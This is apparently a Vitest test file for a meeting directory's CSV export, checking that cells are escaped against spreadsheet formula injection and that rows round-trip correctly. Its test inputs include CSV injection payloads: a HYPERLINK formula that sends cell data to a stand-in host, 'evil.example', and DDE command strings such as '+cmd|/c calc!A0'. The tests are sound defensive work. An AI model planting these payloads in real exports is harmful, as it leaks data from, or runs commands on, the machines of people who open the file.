import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FORMAT_CATALOGUE } from '../../src/domain/formats-catalogue.js';
import type { MeetingInput, PublicMeeting } from '../../src/domain/meeting.js';
import { CSV_HEADERS, meetingRow, meetingsCsv, type CsvContext } from '../../src/interop/csv/meetings-csv.js';
import { safeCell, safeText } from '../../src/interop/csv/safe-cell.js';
import { meetingInput, onlineMeetingInput, publishedMeeting } from '../support/fixtures.js';

const published = (input: MeetingInput, id = 5): PublicMeeting => publishedMeeting(input, id);

const names = new Map(FORMAT_CATALOGUE.map((f) => [f.code, f.text.en.name]));
const context: CsvContext = { formatName: (code) => names.get(code), pageUrl: (m) => `https://rooms.example/meetings/${m.slug}` };

function read(csv: string): Record<string, string>[] {
  return parse<Record<string, string>>(csv, { bom: true, columns: true, skip_empty_lines: true });
}

describe('safeText', () => {
  it('prefixes a quote to every cell a spreadsheet would run as a formula', () => {
    for (const dangerous of [
      '=1+1',
      '+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '=HYPERLINK("http://evil.example","x")',
      '＝1',
      '＋1',
      '－1',
      '＠x',
    ]) {
      expect(safeText(dangerous)).toBe(`'${dangerous}`);
    }
  });

  it('leaves everything else alone', () => {
    for (const harmless of ['', 'Clean and Serene', ' =1', "'quoted", '1+1', 'a=b', '12:00', 'Sólo por Hoy', '"quoted"']) {
      expect(safeText(harmless)).toBe(harmless);
    }
  });
});

describe('safeCell', () => {
  it('writes real numbers as numbers, negative ones included', () => {
    expect(safeCell(-122.6784)).toBe('-122.6784');
    expect(safeCell(45.5)).toBe('45.5');
    expect(safeCell(0)).toBe('0');
    expect(safeCell(-1e-7)).toBe('-1e-7');
  });

  it('defuses text that only looks like a number, and empties what is not there', () => {
    expect(safeCell('-122.6')).toBe("'-122.6");
    expect(safeCell(Number.NaN)).toBe('');
    expect(safeCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });
});

describe('meetingsCsv', () => {
  it('heads the columns in plain English', () => {
    const rows: string[][] = parse(meetingsCsv([], context), { bom: true });
    const [header] = rows;
    expect(header).toEqual([...CSV_HEADERS]);
    for (const column of [
      'Name',
      'Day',
      'Time',
      'End Time',
      'Time Zone',
      'Attendance',
      'Formats',
      'Address',
      'City',
      'State',
      'Postal Code',
      'Latitude',
      'Longitude',
      'Online Link',
      'Phone',
      'Notes',
      'Website',
      'Slug',
      'ID',
    ]) {
      expect(header).toContain(column);
    }
  });

  it('round-trips through a CSV parser, commas, quotes and line breaks included', () => {
    const notes = 'Bring "the" book, a friend;\nand coffee.';
    const csv = meetingsCsv([published(meetingInput({ notes, name: 'Sólo por Hoy, "Grupo"' }))], context);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    const [row] = read(csv);
    expect(row).toMatchObject({
      Name: 'Sólo por Hoy, "Grupo"',
      Day: 'Tuesday',
      Time: '19:30',
      'End Time': '21:00',
      'Time Zone': 'America/Los_Angeles',
      Attendance: 'In person',
      'Format Codes': 'C BT WC',
      Address: '100 Example St',
      City: 'Portland',
      State: 'OR',
      'Postal Code': '97201',
      Latitude: '45.5152',
      Longitude: '-122.6784',
      'Approximate Location': 'no',
      Regions: 'Oregon > Portland',
      Notes: notes,
      Page: 'https://rooms.example/meetings/meeting-5',
      Updated: '2026-11-20 18:30:09',
      Slug: 'meeting-5',
      ID: '5',
      'Online Link': '',
    });
    expect(row!.Formats).toMatch(/^Closed; .+; .+$/);
    expect(Number(row!.Longitude)).toBe(-122.6784);
  });

  it('defuses formulas in every text field', () => {
    const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const base = onlineMeetingInput();
    const meeting = published({
      ...base,
      name: attack,
      notes: '+cmd|/c calc!A0',
      groupName: '@SUM(1+1)*cmd|/c calc!A0',
      venue: { ...base.venue, city: '-2+3', regions: ['=1+1'] },
      online: { ...base.online, conferenceUrlNotes: '\t=1', conferencePhone: '+1 555-0100' },
    });
    const [row] = read(meetingsCsv([meeting], context));
    expect(row).toMatchObject({
      Name: `'${attack}`,
      Notes: "'+cmd|/c calc!A0",
      Group: "'@SUM(1+1)*cmd|/c calc!A0",
      City: "'-2+3",
      Regions: "'=1+1",
      'Online Link Notes': "'\t=1",
      Phone: "'+1 555-0100",
      'Online Link': 'https://meet.test.example/j/123456789',
      Attendance: 'Online',
      'Approximate Location': 'yes',
    });
    // Only the coordinates, which are numbers in our data, may start with a minus.
    for (const cell of meetingRow(meeting, context)) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
    }
  });

  it('leaves online fields out for a meeting that only meets in person, and marks samples', () => {
    const [row] = read(meetingsCsv([published(meetingInput({ online: onlineMeetingInput().online, sample: true, notes: null }))], context));
    expect(row!['Online Link']).toBe('');
    expect(row!.Phone).toBe('');
    expect(row!.Notes).toBe('SAMPLE: this is not a real meeting.');
  });
});
